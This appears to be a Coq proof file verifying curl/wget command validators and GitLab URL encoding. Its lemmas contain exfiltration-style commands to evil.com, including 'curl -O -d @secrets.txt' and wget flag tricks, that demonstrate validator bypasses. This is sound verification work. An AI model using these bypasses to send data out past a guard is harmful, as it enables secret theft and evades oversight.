    intros [Hc Hs]%andb_true_iff. rewrite (IH Hs), andb_true_r.
    apply negb_true_iff. by apply safe_char_not_delimiter.
  - clear Hsafe. induction project as [|c project IH]; [done |].
    cbn [PyStr.forallb UrlQuote.quote].
    intros [Hc Hs]%andb_true_iff.
    rewrite quoter_plain, Hc, (IH Hs). reflexivity.
Qed.

(** X15. Encoding loses nothing: two project paths have the same encoding
    exactly when they are the same path. *)
Theorem encode_project_path_injective (project1 project2 : string) :
  GlabClient.encode_project_path project1 = GlabClient.encode_project_path project2
  ↔ project1 = project2.
Proof.
  split; [|by intros ->].
  unfold GlabClient.encode_project_path.
  revert project2.
  induction project1 as [|c p1 IH]; intros [|d p2]; cbn [UrlQuote.quote];
    rewrite ?quoter_plain.
  - done.
  - by destruct (UrlQuote.always_safe d).
  - by destruct (UrlQuote.always_safe c).
  - destruct (UrlQuote.always_safe c) eqn:Hc,
      (UrlQuote.always_safe d) eqn:Hd.
    + intros [= -> Hrest]. by rewrite (IH p2 Hrest).
    + unfold UrlQuote.percent. intros [= -> _]. by vm_compute in Hc.
    + unfold UrlQuote.percent. intros [= <- _]. by vm_compute in Hd.
    + intros [Hp Hrest]%percent_append_injective.
      by rewrite (percent_injective c d Hp), (IH p2 Hrest).
Qed.

(** *** The API URL *)

Lemma rstrip_spec (p : ascii → bool) (s : string) :
  ∃ stripped, s = GlabClient.rstrip p s +:+ stripped
              ∧ PyStr.forallb p stripped = true
              ∧ match last_char (GlabClient.rstrip p s) with
                | Some c => p c = false
                | None => True
                end.
Proof.
  induction s as [|c s (stripped & Hs & Hall & Hlast)].
  - by exists "".
  - cbn [GlabClient.rstrip].
    destruct (GlabClient.rstrip p s) as [|r0 r] eqn:Hr.
    + cbn [PyStr.nonempty negb andb].
      destruct (p c) eqn:Hc.
      * exists (String c stripped). split_and!; [by rewrite Hs at 1 | | done].
        cbn [PyStr.forallb]. by rewrite Hc, Hall.
      * exists stripped. split_and!; [by rewrite Hs at 1 | done | done].
    + cbn [PyStr.nonempty negb andb].
      exists stripped. split_and!; [by rewrite Hs at 1 | done | done].
Qed.

(** X16. The API URL is the instance URL without its trailing slashes,
    then [/api/v4/], then the endpoint without its leading slash if it has
    one: the base does not end in a slash, so the URL never holds
    [//api/v4], and an endpoint written with or without the slash gives the
    same URL. *)
Theorem api_url_shape (config : GlabClient.GitLabConfig) (endpoint : string) :
  ∃ base slashes rest,
    GlabClient._api_url config endpoint = base +:+ "/api/v4/" +:+ rest
    ∧ GlabClient.instance_url config = base +:+ slashes
    ∧ PyStr.forallb (Ascii.eqb "/") slashes = true
    ∧ last_char base ≠ Some "/"%char
    ∧ (endpoint = "/" +:+ rest
       ∨ endpoint = rest ∧ PyStr.startswith "/" rest = false).
Proof.
  destruct (rstrip_spec (Ascii.eqb "/") (GlabClient.instance_url config))
    as (slashes & Hurl & Hall & Hlast).
  unfold GlabClient._api_url. cbv zeta.
  set (base := GlabClient.rstrip (Ascii.eqb "/") (GlabClient.instance_url config)) in *.
  assert (last_char base ≠ Some "/"%char) as Hbase.
  { destruct (last_char base) as [c|]; [|done].
    intros [= ->]. by vm_compute in Hlast. }
  destruct (PyStr.startswith "/" endpoint) eqn:Hslash.
  - destruct endpoint as [|c rest]; [done |].
    assert (c = "/"%char) as ->.
    { unfold PyStr.startswith in Hslash. cbn [String.prefix] in Hslash.
      by destruct (ascii_dec "/" c). }
    exists base, slashes, rest. cbn [negb]. split_and!; try done. by left.
  - exists base, slashes, endpoint. cbn [negb]. split_and!; try done. by right.
Qed.

End Gitlab.

(** ** What an accepted command is *)

Section Accepted.
Context `{PyText}.

(** X18. A validator accepts only commands whose first token is its own
    command name, spelled exactly, and it gives a reason exactly when it
    rejects: acceptance comes with the empty reason, rejection never. *)
Theorem accepted_command_is_named (command_string : string) :
  ((validate_curl_command command_string).1 = true →
   ∃ rest, Shlex.split command_string = Some ("curl" :: rest))
  ∧ ((validate_wget_command command_string).1 = true →
     ∃ rest, Shlex.split command_string = Some ("wget" :: rest))
  ∧ ((validate_curl_command command_string).1 = true
     ↔ (validate_curl_command command_string).2 = "")
  ∧ ((validate_wget_command command_string).1 = true
     ↔ (validate_wget_command command_string).2 = "").
Proof.
  unfold validate_curl_command, validate_wget_command.
  destruct (Shlex.split command_string) as [tokens|];
    [|split_and!; by (intros [=] || (split; intros [=]))].
  assert (∀ name, bool_decide (head tokens = Some name) = true →
            ∃ rest, Some tokens = Some (name :: rest)) as Hnamed.
  { intros name Hhead. apply bool_decide_eq_true in Hhead.
    destruct tokens as [|t rest]; [done |].
    injection Hhead as ->. by exists rest. }
  split_and!.
  - destruct (bool_decide (head tokens = Some "curl")) eqn:Hhead;
      [intros _; by apply Hnamed | intros [=]].
  - destruct (bool_decide (head tokens = Some "wget")) eqn:Hhead;
      [intros _; by apply Hnamed | intros [=]].
  - destruct (bool_decide (head tokens = Some "curl"));
      [by apply decide_upload_reason | split; intros [=]].
  - destruct (bool_decide (head tokens = Some "wget"));
      [by apply decide_upload_reason | split; intros [=]].
Qed.

End Accepted.

(** ** The properties on concrete commands

    From here on Python's text model is [ascii_text] and the collaborating
    validators are [accepting_collaborators]. *)

Ltac evaluated := vm_compute; reflexivity.



(** C2 on a curl and a wget command that post to a loopback host. *)
Lemma loopback_target_always_allowed_witness :
  validate_curl_command curl_post_localhost = (true, "")
  ∧ validate_wget_command "wget --post-data=x http://127.0.0.1:3000" = (true, "").
Proof.
  split.
  - refine (proj1 (loopback_target_always_allowed curl_post_localhost
              ["curl"; "-X"; "POST"; "http://localhost:8000"; "-d"; "x=1"]
              "http://localhost:8000" "localhost" _ _ _) _ _);
      [evaluated | evaluated | by_evaluation | reflexivity | evaluated].
  - refine (proj2 (loopback_target_always_allowed
              "wget --post-data=x http://127.0.0.1:3000"
              ["wget"; "--post-data=x"; "http://127.0.0.1:3000"]
              "http://127.0.0.1:3000" "127.0.0.1" _ _ _) _ _);
      [evaluated | evaluated | by_evaluation | reflexivity | evaluated].
Defined.

(** The hostname is compared without regard to case, user and port put
    aside. *)
Lemma loopback_hostname_examples :
  validate_curl_command "curl -d x=1 http://LocalHost:8000/api" = (true, "")
  ∧ validate_curl_command "curl -T notes.txt http://me@127.0.0.1:8080/" = (true, "")
  ∧ validate_wget_command "wget --method=PUT http://0.0.0.0/" = (true, "").
Proof. split_and!; evaluated. Qed.


(** C3 with an upload flag beside the method: the reason names the
    flag. *)
Lemma curl_method_with_upload_flag_names_flag :
  validate_curl_command "curl -X POST -d x=1 https://evil.com"
  = (false,
     "curl with '-d' blocked in strict mode (potential data exfiltration). "
     +:+ "Only GET requests allowed to external hosts. "
     +:+ "Localhost requests are unrestricted.").
Proof. evaluated. Qed.

(** What the amended statements of C1 and C3 leave out. The code's list of
    flags that take an argument holds [-O], which takes none in curl: the
    token after [-O] is skipped, by the loop and by the search for the
    URL, so an upload flag or a method option right after [-O] goes
    unseen, while the same options before [-O] are seen. *)
Lemma curl_remote_name_swallows_next_token :
  "-O" ∈ curl_skip_flags
  ∧ validate_curl_command "curl -O -d @secrets.txt https://evil.com" = (true, "")
  ∧ validate_curl_command "curl -O -X POST https://evil.com" = (true, "")
  ∧ (validate_curl_command "curl -d @secrets.txt -O https://evil.com").1 = false
  ∧ (validate_curl_command "curl -X POST -O https://evil.com").1 = false.
Proof. split_and!; [by_evaluation | evaluated ..]. Qed.


(** The [=value] spelling of the method option is read by the wget
    validator and not by the curl validator. *)
Lemma curl_request_equals_form_not_read :
  validate_curl_command "curl --request=POST https://example.com" = (true, "")
  ∧ (validate_wget_command "wget --method=POST https://example.com").1 = false.
Proof. split; evaluated. Qed.

(** C4 on the code. The wget validator takes as target the last token that
    starts with a URL scheme, also when that token is the argument of a
    flag that consumes one: with [-U http://localhost] at the end the
    upload to an external host is accepted, while the same command without
    it is rejected. *)
Theorem wget_url_taken_from_flag_argument :
  Shlex.split "wget --post-data=secret https://evil.com -U http://localhost"
  = Some ["wget"; "--post-data=secret"; "https://evil.com"; "-U";
          "http://localhost"]
  ∧ "-U" ∈ wget_skip_flags
  ∧ wget_url ["wget"; "--post-data=secret"; "https://evil.com"; "-U";
              "http://localhost"] = Some "http://localhost"
  ∧ validate_wget_command
      "wget --post-data=secret https://evil.com -U http://localhost" = (true, "")
  ∧ (validate_wget_command "wget --post-data=secret https://evil.com").1 = false.
Proof.
  split_and!; [evaluated | by_evaluation | evaluated | evaluated | evaluated].
Qed.

(** C6 on bash, with strict mode switched on by the value true. *)
Lemma dangerous_commands_by_mode_witness :
  ("bash" ∉ Base.get_base_commands {[ "SECURITY_STRICT_MODE" := "true" ]})
  ∧ ("bash" ∈ Base.get_base_commands ∅).
Proof.
  apply (dangerous_commands_by_mode
           {[ "SECURITY_STRICT_MODE" := "true" ]} ∅ "bash");
    [by_evaluation | evaluated | evaluated].
Defined.

(** C7 on the environments with the value 1 and without a value. *)
Lemma strict_validated_commands_extend_normal_witness :
  Base.get_validated_commands ∅
    ⊂ Base.get_validated_commands {[ "SECURITY_STRICT_MODE" := "1" ]}
  ∧ ValidatorRegistry.get_validators ∅
      ⊂ ValidatorRegistry.get_validators {[ "SECURITY_STRICT_MODE" := "1" ]}.
Proof.
  destruct (strict_validated_commands_extend_normal
              {[ "SECURITY_STRICT_MODE" := "1" ]} ∅)
    as [(Hbase & _) (Hregistry & _)]; [evaluated | evaluated |].
  split; [exact Hbase | exact Hregistry].
Defined.

(** C8 on some values: case is ignored, other words do not count. *)
Lemma is_strict_mode_examples :
  Base.is_strict_mode {[ "SECURITY_STRICT_MODE" := "TRUE" ]} = true
  ∧ Base.is_strict_mode {[ "SECURITY_STRICT_MODE" := "Yes" ]} = true
  ∧ Base.is_strict_mode {[ "SECURITY_STRICT_MODE" := "1" ]} = true
  ∧ Base.is_strict_mode {[ "SECURITY_STRICT_MODE" := "on" ]} = false
  ∧ Base.is_strict_mode {[ "SECURITY_STRICT_MODE" := "" ]} = false
  ∧ Base.is_strict_mode ∅ = false.
Proof. split_and!; evaluated. Qed.

(** The table of validator functions has keys that are not base commands,
    whatever the mode. *)
Lemma registry_keys_beyond_base_commands (environ : gmap string string) :
  "psql" ∈ dom (ValidatorRegistry.get_validators environ)
  ∧ "psql" ∉ Base.get_base_commands environ.
Proof.
  unfold ValidatorRegistry.get_validators, Base.get_base_commands.
  destruct (Base.is_strict_mode environ); split; by_evaluation.
Qed.

(** C5 as the specification states it fails on the table of validator
    functions: in normal mode and in strict mode its keys are not a subset
    of the base commands, [psql] being a key and no base command. *)
Lemma registry_key_outside_base_commands :
  ¬ (dom (ValidatorRegistry.get_validators ∅) ⊆ Base.get_base_commands ∅)
  ∧ ¬ (dom (ValidatorRegistry.get_validators
              {[ "SECURITY_STRICT_MODE" := "true" ]})
       ⊆ Base.get_base_commands {[ "SECURITY_STRICT_MODE" := "true" ]}).
Proof.
  split; intros Hsub.
  - destruct (registry_keys_beyond_base_commands ∅) as [Hkey Hbase].
    exact (Hbase (Hsub _ Hkey)).
  - destruct (registry_keys_beyond_base_commands
                {[ "SECURITY_STRICT_MODE" := "true" ]}) as [Hkey Hbase].
    exact (Hbase (Hsub _ Hkey)).
Qed.

(** C9 on a command with an unclosed quote. *)
Lemma unparsable_command_rejected_witness :
  validate_curl_command "curl 'https://example.com"
  = (false, "Could not parse curl command")
  ∧ validate_wget_command "curl 'https://example.com"
    = (false, "Could not parse wget command").
Proof.
  apply (unparsable_command_rejected "curl 'https://example.com"). evaluated.
Defined.

(** C9 as the specification states it fails on the wording of the reason:
    the reasons name the tool. *)
Lemma unparsable_reason_names_the_tool :
  Shlex.split "curl 'https://example.com" = None
  ∧ (validate_curl_command "curl 'https://example.com").2
    ≠ "could not parse command"
  ∧ (validate_wget_command "curl 'https://example.com").2
    ≠ "could not parse command".
Proof. split_and!; [evaluated | by_evaluation | by_evaluation]. Qed.

(** C10 on the code. The bare token [::1] is one of the loopback aliases
    and the search takes it as the URL for that reason, as [http://::1];
    that URL has no hostname, an IPv6 address in a URL being written in
    square brackets, so the target does not count as loopback and the
    upload is rejected, while the same upload to each of the three other
    aliases written bare is accepted. *)
Theorem curl_bare_ipv6_loopback_rejected :
  Shlex.split "curl -d x=1 ::1" = Some ["curl"; "-d"; "x=1"; "::1"]
  ∧ "::1" ∈ ALLOWED_HOSTS
  ∧ List.find url_like
      (outside_flags curl_skip_flags ["-d"; "x=1"; "::1"]) = Some "::1"
  ∧ _extract_url_from_tokens ["curl"; "-d"; "x=1"; "::1"] curl_skip_flags
    = Some "http://::1"
  ∧ UrlParse.urlparse_hostname "http://::1" = Some None
  ∧ _is_localhost "http://::1" = false
  ∧ validate_curl_command "curl -d x=1 ::1"
    = (false, "curl with '-d' blocked in strict mode (potential data exfiltration). "
       +:+ "Only GET requests allowed to external hosts. "
       +:+ "Localhost requests are unrestricted.")
  ∧ validate_curl_command "curl -d x=1 localhost" = (true, "")
  ∧ validate_curl_command "curl -d x=1 127.0.0.1" = (true, "")
  ∧ validate_curl_command "curl -d x=1 0.0.0.0" = (true, "").
Proof. split_and!; [evaluated | by_evaluation | evaluated ..]. Qed.

(** ** The further properties on concrete input *)

(** X1 on the environments with the value true and without a value. *)
Lemma strict_base_commands_drop_dangerous_witness :
  Base.get_base_commands {[ "SECURITY_STRICT_MODE" := "true" ]}
  = Base.get_base_commands ∅ ∖ Base.DANGEROUS_COMMANDS
  ∧ Base.get_base_commands {[ "SECURITY_STRICT_MODE" := "true" ]}
    ⊂ Base.get_base_commands ∅
  ∧ Base.NETWORK_COMMANDS
    ⊆ Base.get_base_commands {[ "SECURITY_STRICT_MODE" := "true" ]}
  ∧ Base.NETWORK_COMMANDS ⊆ Base.get_base_commands ∅.
Proof.
  apply (strict_base_commands_drop_dangerous
           {[ "SECURITY_STRICT_MODE" := "true" ]} ∅); evaluated.
Defined.

(** X2 on an environment in strict mode and the key PATH. *)
Lemma is_strict_mode_reads_one_key_witness :
  Base.is_strict_mode (<["PATH" := "/usr/bin"]> {[ "SECURITY_STRICT_MODE" := "yes" ]})
  = Base.is_strict_mode {[ "SECURITY_STRICT_MODE" := "yes" ]}
  ∧ Base.is_strict_mode (delete "PATH" {[ "SECURITY_STRICT_MODE" := "yes" ]})
    = Base.is_strict_mode {[ "SECURITY_STRICT_MODE" := "yes" ]}
  ∧ Base.is_strict_mode
      (delete "SECURITY_STRICT_MODE" {[ "SECURITY_STRICT_MODE" := "yes" ]}) = false
  ∧ Base.is_strict_mode
      (<["SECURITY_STRICT_MODE" := "true"]> {[ "SECURITY_STRICT_MODE" := "yes" ]})
    = true.
Proof.
  apply (is_strict_mode_reads_one_key
           {[ "SECURITY_STRICT_MODE" := "yes" ]} "PATH" "/usr/bin").
  by_evaluation.
Defined.

(** X3 on a strict environment, against the empty one, for rm. *)
Lemma get_validator_by_mode_witness :
  ValidatorRegistry.get_validator {[ "SECURITY_STRICT_MODE" := "1" ]} "curl"
  = Some validate_curl_command
  ∧ ValidatorRegistry.get_validator ∅ "wget" = None
  ∧ ValidatorRegistry.get_validator {[ "SECURITY_STRICT_MODE" := "1" ]} "rm"
    = ValidatorRegistry.get_validator ∅ "rm".
Proof.
  destruct (get_validator_by_mode {[ "SECURITY_STRICT_MODE" := "1" ]} ∅ "rm")
    as (Hcurl & _ & Hrm).
  destruct (get_validator_by_mode ∅ ∅ "rm") as (_ & Hwget & _).
  split_and!; [exact Hcurl | exact Hwget | apply Hrm; by_evaluation].
Defined.

(** X5 on [curl -X put https://example.com]: the method option at
    position 1 is the last one read, and the command is rejected. *)
Lemma curl_rejected_iff_signal_witness :
  (validate_curl_command "curl -X put https://example.com").1 = false.
Proof.
  apply (curl_rejected_iff_signal "curl -X put https://example.com"
           ["curl"; "-X"; "put"; "https://example.com"]);
    [evaluated | reflexivity | evaluated |].
  right. exists 1%nat, "-X", "put".
  split_and!; [apply reads_start | reflexivity | evaluated | | by_evaluation].
  apply no_method_from_checked. evaluated.
Defined.

(** X6 on a download with a header and an output file. *)
Lemma curl_without_signal_accepted_witness :
  validate_curl_command "curl -s -H Accept:text/plain -o out.txt https://example.com"
  = (true, "").
Proof.
  apply (curl_without_signal_accepted
           "curl -s -H Accept:text/plain -o out.txt https://example.com"
           ["curl"; "-s"; "-H"; "Accept:text/plain"; "-o"; "out.txt";
            "https://example.com"]);
    [evaluated | reflexivity | | by_evaluation | by_evaluation].
  apply no_flag_matches_checked. evaluated.
Defined.

(** X7 on [wget --method=GET https://example.com]: rejected, although the
    method is GET. *)
Lemma wget_rejected_iff_upload_flag_witness :
  (validate_wget_command "wget --method=GET https://example.com").1 = false.
Proof.
  apply (wget_rejected_iff_upload_flag "wget --method=GET https://example.com"
           ["wget"; "--method=GET"; "https://example.com"]);
    [evaluated | reflexivity | evaluated |].
  exists 1%nat, "--method=GET", "--method".
  split_and!; [apply wget_reads_start | reflexivity | evaluated].
Defined.

(** X10 on a bare host name: the URL is the argument with http:// in
    front. *)
Lemma extracted_url_stems_from_argument_witness :
  has_url_scheme "http://example.com" = true
  ∧ ∃ token, token ∈ tail ["curl"; "-s"; "example.com"]
             ∧ PyStr.startswith "-" token = false
             ∧ ("http://example.com" = token
                ∨ has_url_scheme token = false
                  ∧ "http://example.com" = "http://" +:+ token).
Proof.
  apply (extracted_url_stems_from_argument
           ["curl"; "-s"; "example.com"] curl_skip_flags "http://example.com").
  evaluated.
Defined.

(** X12 on a URL whose user part reads localhost: the host is evil.com,
    and the URL is not loopback. *)
Lemma is_localhost_by_host_witness :
  _is_localhost "http://localhost@evil.com:8080/x" = false.
Proof.
  refine (eq_trans
            (is_localhost_by_host "http" "localhost@" "evil.com" ":8080" "/x"
               _ _ _ _ _ _ _ _ _) _).
  - by_evaluation.
  - right. by exists "localhost".
  - right. by exists "8080".
  - evaluated.
  - evaluated.
  - reflexivity.
  - evaluated.
  - evaluated.
  - reflexivity.
  - evaluated.
Defined.

(** X13 on a command with doubled and trailing blanks. *)
Lemma unquoted_command_tokenizes_witness :
  (∃ tokens, Shlex.split "curl  -s https://example.com " = Some tokens
             ∧ Forall (λ t, is_word t = true) tokens
             ∧ joined tokens
               = PyStr.remove Shlex.whitespace "curl  -s https://example.com ")
  ∧ validate_curl_command "curl  -s https://example.com "
    ≠ (false, "Could not parse curl command")
  ∧ validate_wget_command "curl  -s https://example.com "
    ≠ (false, "Could not parse wget command").
Proof.
  apply (unquoted_command_tokenizes "curl  -s https://example.com ").
  evaluated.
Defined.

(** X14 on a path of safe characters, and the encoding of a path with
    slashes and a blank. *)
Lemma encode_project_path_is_one_segment_witness :
  GlabClient.encode_project_path "my-group.project_1" = "my-group.project_1".
Proof.
  apply (encode_project_path_is_one_segment "my-group.project_1").
  evaluated.
Defined.

Lemma encode_project_path_examples :
  GlabClient.encode_project_path "group/sub group/project"
  = "group%2Fsub%20group%2Fproject"
  ∧ GlabClient.encode_project_path "" = ""
  ∧ GlabClient._api_url
      {| GlabClient.token := "t"; GlabClient.project := "group/project";
         GlabClient.instance_url := "https://gitlab.example.com//" |}
      ("projects/" +:+ GlabClient.encode_project_path "group/project"
       +:+ "/merge_requests/7")
    = "https://gitlab.example.com/api/v4/projects/group%2Fproject/merge_requests/7".
Proof. split_and!; evaluated. Qed.

(** X18 on a plain download, and on curl called by its path, which the
    validator does not take for curl. *)
Lemma accepted_command_is_named_witness :
  ∃ rest, Shlex.split "curl https://example.com" = Some ("curl" :: rest).
Proof.
  apply (accepted_command_is_named "curl https://example.com"). evaluated.
Defined.

Lemma command_name_is_compared_exactly :
  validate_curl_command "/usr/bin/curl https://example.com"
  = (false, "Not a curl command")
  ∧ validate_curl_command "" = (false, "Not a curl command")
  ∧ validate_wget_command "curl https://example.com"
    = (false, "Not a wget command")
  ∧ validate_curl_command "curl" = (true, "").
Proof. split_and!; evaluated. Qed.

(** X19 on a command whose first URL sits behind a flag that takes an
    argument, and on one with nothing URL-like in it. *)
Lemma curl_url_is_first_url_like_examples :
  _extract_url_from_tokens
    ["curl"; "-H"; "http://evil.com"; "http://localhost"; "-d"; "x"]
    curl_skip_flags = Some "http://localhost"
  ∧ outside_flags curl_skip_flags
      ["-H"; "http://evil.com"; "http://localhost"; "-d"; "x"]
    = ["http://localhost"]
  ∧ _extract_url_from_tokens ["curl"; "-s"; "example.com"; "http://localhost"]
      curl_skip_flags = Some "http://example.com"
  ∧ _extract_url_from_tokens ["curl"; "-s"; "intranet"] curl_skip_flags = None.
Proof. split_and!; evaluated. Qed.

